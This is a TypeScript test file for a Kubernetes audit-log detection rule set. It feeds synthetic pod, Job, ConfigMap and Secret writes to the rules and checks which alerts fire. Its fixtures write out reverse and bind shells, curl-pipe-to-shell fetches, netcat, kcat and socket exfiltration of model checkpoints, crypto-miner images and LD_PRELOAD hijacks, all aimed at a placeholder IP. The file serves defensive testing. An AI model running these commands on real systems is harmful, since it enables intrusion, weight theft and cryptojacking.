/**
 * The workload rules (MLS-RAY-033 … 036, MLS-POISON-013, MLS-EXFIL-049) over audit events as the
 * real audit reader stores them (ingest pipeline → case file → caseEvents → the shipped rule set):
 * what a created or changed workload will run is read from the restored request body
 * (workload-fields.ts), whichever wrapper carries the pod spec, or a JSON Patch or a ConfigMap's
 * scripts; a subresource write other than a pod's ephemeral containers (an exec, a status) runs
 * nothing of its body.
 */
import { describe, expect, it } from 'vitest';
import { decideAuditLines } from './audit-rules.test-support.js';

const WORKLOAD_RULES: ReadonlySet<string> = new Set(['MLS-RAY-033', 'MLS-RAY-034', 'MLS-RAY-035', 'MLS-RAY-036', 'MLS-POISON-013', 'MLS-EXFIL-049', 'MLS-EXFIL-039']);
const ALICE = { username: 'oidc:alice@corp.example', groups: ['system:authenticated'] };
const JOB_CONTROLLER = { username: 'system:serviceaccount:kube-system:job-controller', groups: [] };
const CI_DEPLOYER = { username: 'system:serviceaccount:ci:deployer', groups: ['system:serviceaccounts', 'system:serviceaccounts:ci'] };
const RS_CONTROLLER = { username: 'system:serviceaccount:kube-system:replicaset-controller', groups: [] };
const CKPT = { name: 'ck', persistentVolumeClaim: { claimName: 'llama-ft-ckpt' } };

let n = 0;
/** One audit.k8s.io/v1 Event line at level Request: a write of `resource` with `body`, a second after the one before. */
function write(verb: string, resource: string, body: Record<string, unknown> | unknown[], code = 201, user: Record<string, unknown> = ALICE, apiGroup = '', subresource = '', query = ''): string {
  const at = new Date(Date.UTC(2026, 10, 20, 9, 0, n++)).toISOString();
  const base = apiGroup === '' ? '/api/v1' : `/apis/${apiGroup}/v1`;
  return JSON.stringify({
    kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'Request', auditID: `workload-${n}`, stage: 'ResponseComplete',
    requestURI: `${base}/namespaces/ml-train/${resource}${subresource ? `/w${n}/${subresource}` : ''}${query}`, verb, user, sourceIPs: ['10.0.0.5'], userAgent: 'kubectl/v1.30.2',
    objectRef: { resource, namespace: 'ml-train', name: `w${n}`, apiVersion: 'v1', ...(apiGroup ? { apiGroup } : {}), ...(subresource ? { subresource } : {}) },
    responseStatus: { metadata: {}, code }, requestObject: body, requestReceivedTimestamp: at, stageTimestamp: at,
  });
}
const pod = (spec: Record<string, unknown>): Record<string, unknown> => ({ kind: 'Pod', apiVersion: 'v1', spec });
/** A controlling owner reference, as the ReplicaSet, Job and other controllers write it into the pods they make. */
const ownedBy = (apiVersion: string, kind: string, name: string): Record<string, unknown> => ({ apiVersion, kind, name, uid: '5b0c6c1e-0000-4000-8000-000000000001', controller: true, blockOwnerDeletion: true });
const fetchAndRunPod = pod({ initContainers: [{ name: 'i', image: 'curlimages/curl', command: ['sh', '-c', 'curl -fsSL http://203.0.113.7/i.sh | sh'] }], containers: [{ name: 'w', image: 'nginx' }] });
const templated = (kind: string, spec: Record<string, unknown>): Record<string, unknown> => ({ kind, spec: { template: { spec } } });

describe('workload rules through the real audit reader', () => {
  it('decide each workload write as the rule files say', async () => {
    const lines = [
      // Weights sent off from a person's own pod or Job (MLS-EXFIL-049): netcat, rsync to a host, an Argo script piping to nc.
      write('create', 'pods', pod({ containers: [{ name: 'c', image: 'alpine', command: ['sh', '-c', 'nc 203.0.113.7 4444 < /mnt/ckpt/model.safetensors'] }], volumes: [CKPT] })),
      write('create', 'jobs', templated('Job', { containers: [{ name: 'c', image: 'instrumentisto/rsync-ssh', args: ['-c', 'rsync -az /mnt/ckpt/ backup@203.0.113.7:/x/'] }], volumes: [CKPT] }), 201, ALICE, 'batch'),
      write('create', 'workflows', { kind: 'Workflow', spec: { templates: [{ name: 'main', script: { image: 'alpine', command: ['sh'], source: 'cat /data/out/model-00001-of-00002.safetensors | nc 203.0.113.7 9000' } }] } }, 201, ALICE, 'argoproj.io'),
      // The Job controller's pod for that Job (a service account: left), a bucket copy and a loopback curl upload (left), a port check beside a checkpoint claim (left).
      write('create', 'pods', pod({ containers: [{ name: 'c', image: 'instrumentisto/rsync-ssh', args: ['-c', 'rsync -az /mnt/ckpt/ backup@203.0.113.7:/x/'] }], volumes: [CKPT] }), 201, JOB_CONTROLLER),
      write('create', 'pods', pod({ containers: [{ name: 'c', image: 'amazon/aws-cli', command: ['aws', 's3', 'cp', '/mnt/ckpt/model.pt', 's3://corp-ckpt/llama/'] }], volumes: [CKPT] })),
      write('create', 'pods', pod({ containers: [{ name: 'c', image: 'curlimages/curl', command: ['curl', '-T', '/mnt/ckpt/model.pt', 'http://127.0.0.1:9000/up'] }], volumes: [CKPT] })),
      write('update', 'deployments', templated('Deployment', { containers: [{ name: 'c', image: 'redis-probe', command: ['sh', '-c', 'nc -zv redis 6379'] }], volumes: [CKPT] }), 200, ALICE, 'apps'),
      // A miner: by image in a person's Deployment, by its pool in a controller's pod; a refused one (left).
      write('create', 'deployments', templated('Deployment', { containers: [{ name: 'm', image: 'docker.io/xmrig/xmrig:6.21.0', args: ['-o', 'pool.example:3333'] }] }), 201, ALICE, 'apps'),
      write('create', 'pods', pod({ containers: [{ name: 'm', image: 'ubuntu:22.04', command: ['/opt/sys/kworker', '-o', 'stratum+tcp://pool.example:3333', '--donate-level', '1'] }] }), 201, RS_CONTROLLER),
      write('create', 'daemonsets', templated('DaemonSet', { containers: [{ name: 'm', image: 'xmrig/xmrig' }] }), 403, ALICE, 'apps'),
      // A reverse shell in a DaemonSet's postStart hook, and in a RayJob's entrypoint (MLS-RAY-034).
      write('create', 'daemonsets', templated('DaemonSet', { containers: [{ name: 'n', image: 'nginx', lifecycle: { postStart: { exec: { command: ['/bin/bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &'] } } } }] }), 201, ALICE, 'apps'),
      write('create', 'rayjobs', { kind: 'RayJob', spec: { entrypoint: 'sh -c "nc -e /bin/sh 203.0.113.7 4444"', rayClusterSpec: { headGroupSpec: { template: { spec: { containers: [{ name: 'head', image: 'rayproject/ray:2.9.0' }] } } } } } }, 201, ALICE, 'ray.io'),
      // Library hijacking through the environment: a preload from a host mount in a PyTorchJob (MLS-RAY-035), PYTHONPATH in /tmp in a CronJob (MLS-POISON-013).
      write('create', 'pytorchjobs', { kind: 'PyTorchJob', spec: { pytorchReplicaSpecs: { Worker: { replicas: 4, template: { spec: { containers: [{ name: 'pytorch', image: 'corp/llama-ft:1.4', command: ['torchrun', 'train.py'], env: [{ name: 'LD_PRELOAD', value: '/host/var/lib/x/libcudahook.so' }] }] } } } } } }, 201, ALICE, 'kubeflow.org'),
      write('create', 'cronjobs', { kind: 'CronJob', spec: { schedule: '0 * * * *', jobTemplate: { spec: { template: { spec: { containers: [{ name: 'eval', image: 'corp/eval:2', command: ['python', '-m', 'harness.run'], env: [{ name: 'PYTHONPATH', value: '/tmp/p:/workspace/src' }] }] } } } } } }, 201, ALICE, 'batch'),
      // An everyday training job: an allocator preloaded from the image, the project's own paths, the driver's libraries (left).
      write('create', 'pytorchjobs', { kind: 'PyTorchJob', spec: { pytorchReplicaSpecs: { Master: { replicas: 1, template: { spec: { containers: [{ name: 'pytorch', image: 'corp/llama-ft:1.4', command: ['torchrun', '--nproc-per-node=8', 'train.py', '--ckpt-dir', '/mnt/ckpt'], env: [{ name: 'LD_PRELOAD', value: '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2' }, { name: 'PYTHONPATH', value: '/workspace/src' }, { name: 'LD_LIBRARY_PATH', value: '/usr/local/nvidia/lib64' }] }], volumes: [CKPT] } } } } } }, 201, ALICE, 'kubeflow.org'),
      // A debug container added to a running pod with a bind shell (MLS-RAY-034); the kubelet's status patch of a pod whose spec says the same (left: a status write runs nothing).
      write('patch', 'pods', { spec: { ephemeralContainers: [{ name: 'dbg', image: 'busybox', command: ['nc', '-lp', '4444', '-e', '/bin/sh'] }] } }, 200, ALICE, '', 'ephemeralcontainers'),
      write('patch', 'pods', { spec: { containers: [{ name: 'm', image: 'xmrig/xmrig' }] } }, 200, { username: 'system:node:gpu-node-7', groups: ['system:nodes'] }, '', 'status'),
      // Weights printed to a person's pod's log, for kubectl logs to read back (MLS-EXFIL-049); a safetensors header read (left).
      write('create', 'pods', pod({ containers: [{ name: 'c', image: 'alpine', command: ['sh', '-c', 'base64 -w0 /mnt/ckpt/model.safetensors; sleep 3600'] }] })),
      write('create', 'pods', pod({ containers: [{ name: 'c', image: 'alpine', command: ['sh', '-c', 'head -c 8 /mnt/ckpt/model.safetensors | od -An -tu8; sleep 3600'] }] })),
      // Weights loaded into a broker or a key-value store from a person's pod (MLS-EXFIL-049); a dataset import and a RedisAI model load beside a checkpoint claim (left by it: the claim is MLS-EXFIL-039's to escalate).
      write('create', 'pods', pod({ containers: [{ name: 'c', image: 'edenhill/kcat:1.7.1', command: ['kcat', '-P', '-b', '203.0.113.7:9092', '-t', 'w', '/mnt/ckpt/model.safetensors'] }], volumes: [CKPT] })),
      write('create', 'jobs', templated('Job', { containers: [{ name: 'c', image: 'redis:7', command: ['sh', '-c', 'cat /mnt/ckpt/model.pt | redis-cli -h 203.0.113.7 -x SET w'] }] }), 201, ALICE, 'batch'),
      write('create', 'pods', pod({ containers: [{ name: 'c', image: 'mongo:7', command: ['mongoimport', '--uri', 'mongodb://db/app', '-c', 'runs', '--file', '/data/runs.json'] }], volumes: [CKPT] })),
      write('create', 'pods', pod({ containers: [{ name: 'c', image: 'redis:7', command: ['sh', '-c', 'redis-cli -h redisai -x AI.MODELSTORE m TORCH CPU BLOB < /models/m.pt'] }], volumes: [CKPT] })),
    ];
    const got = await decideAuditLines(lines, (id) => WORKLOAD_RULES.has(id));
    expect(got).toEqual([
      '1 pods MLS-EXFIL-049,MLS-EXFIL-039 alert',
      '2 jobs MLS-EXFIL-049 alert',
      '3 workflows MLS-EXFIL-049 alert',
      '4 pods -',
      '5 pods MLS-EXFIL-039 escalate',
      '6 pods MLS-EXFIL-039 escalate',
      '7 deployments -',
      '8 deployments MLS-RAY-033 alert',
      '9 pods MLS-RAY-033 alert',
      '10 daemonsets -',
      '11 daemonsets MLS-RAY-034 alert',
      '12 rayjobs MLS-RAY-034 alert',
      '13 pytorchjobs MLS-RAY-035 alert',
      '14 cronjobs MLS-POISON-013 escalate',
      '15 pytorchjobs -',
      '16 pods/ephemeralcontainers MLS-RAY-034 alert',
      '17 pods/status -',
      '18 pods MLS-EXFIL-049 alert',
      '19 pods -',
      '20 pods MLS-EXFIL-049,MLS-EXFIL-039 alert',
      '21 jobs MLS-EXFIL-049 alert',
      '22 pods MLS-EXFIL-039 escalate',
      '23 pods MLS-EXFIL-039 escalate',
    ]);
  });

  it('leave a server-side dry run (the exact dryRun=All parameter), read archives a pod prints to its log, expand $(NAME) as the kubelet does, and see code a persons workload fetches and runs', async () => {
    const miner = templated('Deployment', { containers: [{ name: 'm', image: 'xmrig/xmrig' }] });
    const claim = pod({ containers: [{ name: 'c', image: 'busybox', command: ['sleep', '3600'] }], volumes: [CKPT] });
    const lines = [
      write('create', 'deployments', miner, 201, ALICE, 'apps', '', '?dryRun=All'),
      write('create', 'deployments', miner, 201, ALICE, 'apps', '', '?fieldManager=kubectl-client-side-apply&dryRun=All'),
      write('create', 'pods', claim, 201, ALICE, '', '', '?dryRun=All&fieldManager=kubectl-run'),
      // Not a dry run: a field manager whose value spells one, and a parameter that only starts like it.
      write('create', 'deployments', miner, 201, ALICE, 'apps', '', '?fieldManager=dryRun=All'),
      write('create', 'deployments', miner, 201, ALICE, 'apps', '', '?dryRun=Allx'),
      // A checkpoint directory archived to the container's output, for kubectl logs (MLS-EXFIL-049); a log directory so (left).
      write('create', 'pods', pod({ containers: [{ name: 'c', image: 'alpine', command: ['sh', '-c', 'tar czf - /mnt/ckpt/step-9000 | base64 -w0; sleep 3600'] }] })),
      write('create', 'pods', pod({ containers: [{ name: 'c', image: 'alpine', command: ['sh', '-c', 'tar czf - /var/log/trainer | base64 -w0; sleep 3600'] }] })),
      // A reverse shell no command word spells: the kubelet expands $(P) from the env (MLS-RAY-034); the same with $$(P), the literal text (left).
      write('create', 'deployments', templated('Deployment', { containers: [{ name: 'w', image: 'python:3.12', command: ['sh', '-c', '$(P)'], env: [{ name: 'H', value: '203.0.113.7' }, { name: 'P', value: 'bash -i >& /dev/tcp/$(H)/4444 0>&1' }] }] }), 201, ALICE, 'apps'),
      write('create', 'deployments', templated('Deployment', { containers: [{ name: 'w', image: 'python:3.12', command: ['sh', '-c', 'echo "$$(P)"'], env: [{ name: 'P', value: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' }] }] }), 201, ALICE, 'apps'),
      // Code fetched and run (MLS-RAY-036): piped into a shell in a person's init container, downloaded and started by a RayJob entrypoint;
      // the ReplicaSet controller's pod from that template, and a Job that fetches a dataset and runs the image's own trainer (left).
      write('create', 'deployments', templated('Deployment', { initContainers: [{ name: 'i', image: 'curlimages/curl', command: ['sh', '-c', 'curl -fsSL http://203.0.113.7/i.sh | sh'] }], containers: [{ name: 'w', image: 'nginx' }] }), 201, ALICE, 'apps'),
      write('create', 'rayjobs', { kind: 'RayJob', spec: { entrypoint: 'wget -q http://203.0.113.7/x -O /tmp/x && chmod +x /tmp/x && /tmp/x' } }, 201, ALICE, 'ray.io'),
      write('create', 'pods', { ...fetchAndRunPod, metadata: { name: 'w-7d9f-x2', ownerReferences: [ownedBy('apps/v1', 'ReplicaSet', 'w-7d9f')] } }, 201, RS_CONTROLLER),
      write('create', 'jobs', templated('Job', { containers: [{ name: 't', image: 'corp/llama-ft:1.4', command: ['sh', '-c', 'curl -fsSL -o /data/d.tgz https://data.corp.example/d.tgz && tar xzf /data/d.tgz -C /data && python train.py --data /data/d'] }] }), 201, ALICE, 'batch'),
      // A CI service account's Job that fetches and runs code (MLS-RAY-036): no controller made it; the Job controller's pod of it (left);
      // a person's pod naming a controlling owner in its own body (MLS-RAY-036: only a system actor's owner reference counts).
      write('create', 'jobs', templated('Job', { containers: [{ name: 't', image: 'python:3.12', command: ['sh', '-c', 'curl -fsSL http://203.0.113.7/s.py | python3'] }] }), 201, CI_DEPLOYER, 'batch'),
      write('create', 'pods', { ...pod({ containers: [{ name: 't', image: 'python:3.12', command: ['sh', '-c', 'curl -fsSL http://203.0.113.7/s.py | python3'] }] }), metadata: { name: 'j-x', ownerReferences: [ownedBy('batch/v1', 'Job', 'j')] } }, 201, JOB_CONTROLLER),
      write('create', 'pods', { ...fetchAndRunPod, metadata: { name: 'p', ownerReferences: [ownedBy('apps/v1', 'ReplicaSet', 'w-7d9f')] } }),
    ];
    const got = await decideAuditLines(lines, (id) => WORKLOAD_RULES.has(id));
    expect(got).toEqual([
      '1 deployments -',
      '2 deployments -',
      '3 pods -',
      '4 deployments MLS-RAY-033 alert',
      '5 deployments MLS-RAY-033 alert',
      '6 pods MLS-EXFIL-049 alert',
      '7 pods -',
      '8 deployments MLS-RAY-034 alert',
      '9 deployments -',
      '10 deployments MLS-RAY-036 alert',
      '11 rayjobs MLS-RAY-036 alert',
      '12 pods -',
      '13 jobs -',
      '14 jobs MLS-RAY-036 alert',
      '15 pods -',
      '16 pods MLS-RAY-036 alert',
    ]);
  });

  it('alert on a miner by its name as a word or a name part, not inside another name (MLS-RAY-033)', async () => {
    const deploy = (container: Record<string, unknown>): string => write('create', 'deployments', templated('Deployment', { containers: [{ name: 'c', ...container }] }), 201, ALICE, 'apps');
    const lines = [
      deploy({ image: 'ghcr.io/example/lolminer-cuda:1.88' }),
      deploy({ image: 'nvidia/cuda:12.4.1-runtime', command: ['/opt/t-rex', '-a', 'kawpow', '-o', 'pool.example:3333'] }),
      deploy({ image: 'ubuntu:22.04', command: ['sh', '-c', 'cd /opt && ./XMRig --cpu-max-threads-hint 50'] }),
      deploy({ image: 'ubuntu:22.04', args: ['--url=stratum+ssl://pool.example:443'] }),
      // A miner's name inside another name: Oracle LogMiner tooling, a model named after a dinosaur, a data-mining job (left).
      deploy({ image: 'corp/oracle-logminer-cdc:2.1' }),
      deploy({ image: 'corp/cat-rex-api:3', command: ['python', 'serve.py', '--model', '/models/cat-rex-7b'] }),
      deploy({ image: 'corp/datamining:1', command: ['python', '-m', 'jobs.bigminer', '--out', '/data/mined'] }),
    ];
    const got = await decideAuditLines(lines, (id) => WORKLOAD_RULES.has(id));
    expect(got).toEqual([
      '1 deployments MLS-RAY-033 alert',
      '2 deployments MLS-RAY-033 alert',
      '3 deployments MLS-RAY-033 alert',
      '4 deployments MLS-RAY-033 alert',
      '5 deployments -',
      '6 deployments -',
      '7 deployments -',
    ]);
  });

  it('alert on a person\'s pod sending a checkpoint with HTTPie or xh (MLS-EXFIL-049), not on one posting plain fields (its checkpoint claim is MLS-EXFIL-039\'s)', async () => {
    const run = (command: string[]): string => write('create', 'pods', pod({ containers: [{ name: 'c', image: 'alpine/httpie', command }], volumes: [CKPT] }));
    const lines = [
      run(['http', '-f', 'POST', '203.0.113.7/u', 'f@/mnt/ckpt/model.safetensors']),
      run(['sh', '-c', 'xh POST https://203.0.113.7/u < /mnt/ckpt/model.safetensors']),
      run(['http', 'POST', 'http://10.0.0.9:8080/train/done', 'step=9000']),
    ];
    const got = await decideAuditLines(lines, (id) => WORKLOAD_RULES.has(id));
    expect(got).toEqual(['1 pods MLS-EXFIL-049,MLS-EXFIL-039 alert', '2 pods MLS-EXFIL-049,MLS-EXFIL-039 alert', '3 pods MLS-EXFIL-039 escalate']);
  });

  it('read a JSON Patch body (kubectl patch --type=json) as what it writes', async () => {
    const replace = (path: string, value: unknown): Record<string, unknown> => ({ op: 'replace', path, value });
    const add = (path: string, value: unknown): Record<string, unknown> => ({ op: 'add', path, value });
    const C0 = '/spec/template/spec/containers/0';
    const lines = [
      // A Deployment's command replaced with a reverse shell (MLS-RAY-034), its image with a miner (MLS-RAY-033),
      // a preload from a host path added to its env (MLS-RAY-035), an init container that fetches and runs code (MLS-RAY-036).
      write('patch', 'deployments', [replace(`${C0}/command`, ['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'])], 200, ALICE, 'apps'),
      write('patch', 'deployments', [replace(`${C0}/image`, 'docker.io/xmrig/xmrig:6.21.0')], 200, ALICE, 'apps'),
      write('patch', 'pytorchjobs', [add('/spec/pytorchReplicaSpecs/Worker/template/spec/containers/0/env/-', { name: 'LD_PRELOAD', value: '/host/var/lib/x/libcudahook.so' })], 200, ALICE, 'kubeflow.org'),
      write('patch', 'deployments', [add('/spec/template/spec/initContainers', [{ name: 'i', image: 'curlimages/curl', command: ['sh', '-c', 'curl -fsSL http://203.0.113.7/i.sh | sh'] }])], 200, ALICE, 'apps'),
      // One argument replaced below a command the patch does not carry: that argument is what it writes (MLS-EXFIL-049).
      write('patch', 'pods', [add('/spec/containers/0/args', ['-c', 'nc 203.0.113.7 4444 < /mnt/ckpt/model.safetensors'])], 200),
      // Everyday patches (left): a replica count, an image bump, a label; a dry run of the shell; a status patch.
      write('patch', 'deployments', [replace('/spec/replicas', 4)], 200, ALICE, 'apps'),
      write('patch', 'deployments', [replace(`${C0}/image`, 'corp/llama-ft:1.5'), replace(`${C0}/command`, ['torchrun', 'train.py'])], 200, ALICE, 'apps'),
      write('patch', 'deployments', [add('/metadata/labels/team', 'ml')], 200, ALICE, 'apps'),
      write('patch', 'deployments', [replace(`${C0}/command`, ['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'])], 200, ALICE, 'apps', '', '?dryRun=All'),
      write('patch', 'pods', [replace('/status/phase', 'Running')], 200, { username: 'system:node:gpu-node-7', groups: ['system:nodes'] }, '', 'status'),
    ];
    const got = await decideAuditLines(lines, (id) => WORKLOAD_RULES.has(id));
    expect(got).toEqual([
      '1 deployments MLS-RAY-034 alert',
      '2 deployments MLS-RAY-033 alert',
      '3 pytorchjobs MLS-RAY-035 alert',
      '4 deployments MLS-RAY-036 alert',
      '5 pods MLS-EXFIL-049 alert',
      '6 deployments -',
      '7 deployments -',
      '8 deployments -',
      '9 deployments -',
      '10 pods/status -',
    ]);
  });

  it('read a ConfigMap written for workloads: its scripts as commands, its variable-named keys as their environment', async () => {
    const cm = (data: Record<string, unknown>): Record<string, unknown> => ({ kind: 'ConfigMap', apiVersion: 'v1', data });
    const lines = [
      // A script fetched and run (MLS-RAY-036), a reverse shell by its #! line (MLS-RAY-034), a preload for envFrom (MLS-RAY-035),
      // a Python script sending a checkpoint to a socket (MLS-EXFIL-049), a bind shell added by a JSON Patch (MLS-RAY-034).
      write('create', 'configmaps', cm({ 'entry.sh': 'set -e\ncurl -fsSL http://203.0.113.7/i.sh | sh\nexec python train.py' })),
      write('create', 'configmaps', cm({ start: '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1' })),
      write('create', 'configmaps', cm({ LD_PRELOAD: '/host/var/lib/x/libcudahook.so', NCCL_DEBUG: 'INFO' })),
      write('update', 'configmaps', cm({ 'sync.py': "import socket\ns = socket.create_connection(('203.0.113.7', 4444))\ns.sendall(open('/mnt/ckpt/model.safetensors', 'rb').read())\n" }), 200),
      write('patch', 'configmaps', [{ op: 'add', path: '/data/hook.sh', value: 'nc -lp 4444 -e /bin/sh' }], 200),
      // An everyday training entrypoint, its environment and config (left); the CA bundle the controller publishes (left); a refused shell (left).
      write('create', 'configmaps', cm({ 'train.sh': '#!/bin/bash\nset -euo pipefail\ntorchrun --nproc-per-node=8 train.py --ckpt-dir /mnt/ckpt', PYTHONPATH: '/workspace/src', 'config.yaml': 'lr: 0.0003\nbatch: 64\n' })),
      write('create', 'configmaps', cm({ 'ca.crt': '-----BEGIN CERTIFICATE-----\nMIIC\n-----END CERTIFICATE-----\n' }), 201, { username: 'system:serviceaccount:kube-system:root-ca-cert-publisher', groups: [] }),
      write('create', 'configmaps', cm({ start: '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1' }), 403),
    ];
    const got = await decideAuditLines(lines, (id) => WORKLOAD_RULES.has(id));
    expect(got).toEqual([
      '1 configmaps MLS-RAY-036 alert',
      '2 configmaps MLS-RAY-034 alert',
      '3 configmaps MLS-RAY-035 alert',
      '4 configmaps MLS-EXFIL-049 alert',
      '5 configmaps MLS-RAY-034 alert',
      '6 configmaps -',
      '7 configmaps -',
      '8 configmaps -',
    ]);
  });

  it('read a Secret written for workloads as a ConfigMap is: stringData as written, data as base64', async () => {
    const secret = (body: Record<string, unknown>, type = 'Opaque'): Record<string, unknown> => ({ kind: 'Secret', apiVersion: 'v1', type, ...body });
    const b64 = (x: string): string => Buffer.from(x).toString('base64');
    const lines = [
      // A hook script fetched and run (MLS-RAY-036), a preload for envFrom: secretRef, base64 in data (MLS-RAY-035), a reverse shell by its #! line (MLS-RAY-034).
      write('create', 'secrets', secret({ stringData: { 'hook.sh': 'curl -fsSL http://203.0.113.7/i.sh | sh' } })),
      write('create', 'secrets', secret({ data: { LD_PRELOAD: b64('/host/var/lib/x/libcudahook.so'), NCCL_DEBUG: b64('INFO') } })),
      write('patch', 'secrets', [{ op: 'add', path: '/data/start', value: b64('#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1') }], 200),
      // Credentials, a registry login and a TLS pair (left).
      write('create', 'secrets', secret({ stringData: { AWS_ACCESS_KEY_ID: 'AKIAEXAMPLE', AWS_SECRET_ACCESS_KEY: 'wJalrXUtnFEMI/K7MDENG' } })),
      write('create', 'secrets', secret({ data: { '.dockerconfigjson': b64('{"auths":{"registry.corp.example":{"auth":"eDp5"}}}') } }, 'kubernetes.io/dockerconfigjson')),
      write('create', 'secrets', secret({ data: { 'tls.crt': b64('-----BEGIN CERTIFICATE-----\nMIIC\n-----END CERTIFICATE-----\n'), 'tls.key': b64('-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----\n') } }, 'kubernetes.io/tls')),
    ];
    const got = await decideAuditLines(lines, (id) => WORKLOAD_RULES.has(id));
    expect(got).toEqual([
      '1 secrets MLS-RAY-036 alert',
      '2 secrets MLS-RAY-035 alert',
      '3 secrets MLS-RAY-034 alert',
      '4 secrets -',
      '5 secrets -',
      '6 secrets -',
    ]);
  });

  it('read what a container runs from its args when its command is a shell handing them on ("$@", $0, $1)', async () => {
    const run = (command: string[], args: string[]): Record<string, unknown> => pod({ containers: [{ name: 'c', image: 'python:3.12', command, args }] });
    const lines = [
      // A fetched script run (MLS-RAY-036), a reverse shell (MLS-RAY-034), a checkpoint printed to the log (MLS-EXFIL-049): each only in args.
      write('create', 'pods', run(['sh', '-c', 'exec "$@"', '--'], ['sh', '-c', 'curl -fsSL http://203.0.113.7/i.sh | sh'])),
      write('create', 'pods', run(['/bin/sh', '-c', '"$@"'], ['_', 'bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'])),
      write('create', 'pods', run(['sh', '-c', 'tar czf - "$1" | base64 -w0; sleep 3600'], ['x', '/mnt/ckpt/step-9000'])),
      // The everyday entrypoint wrapper around a trainer, and an argument that is only printed (left).
      write('create', 'pods', run(['sh', '-c', 'exec "$@"', '--'], ['torchrun', '--nproc-per-node=8', 'train.py', '--ckpt-dir', '/mnt/ckpt'])),
      write('create', 'pods', run(['sh', '-c', 'echo "$1"; sleep 3600'], ['x', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'])),
    ];
    const got = await decideAuditLines(lines, (id) => WORKLOAD_RULES.has(id));
    expect(got).toEqual([
      '1 pods MLS-RAY-036 alert',
      '2 pods MLS-RAY-034 alert',
      '3 pods MLS-EXFIL-049 alert',
      '4 pods -',
      '5 pods -',
    ]);
  });
});
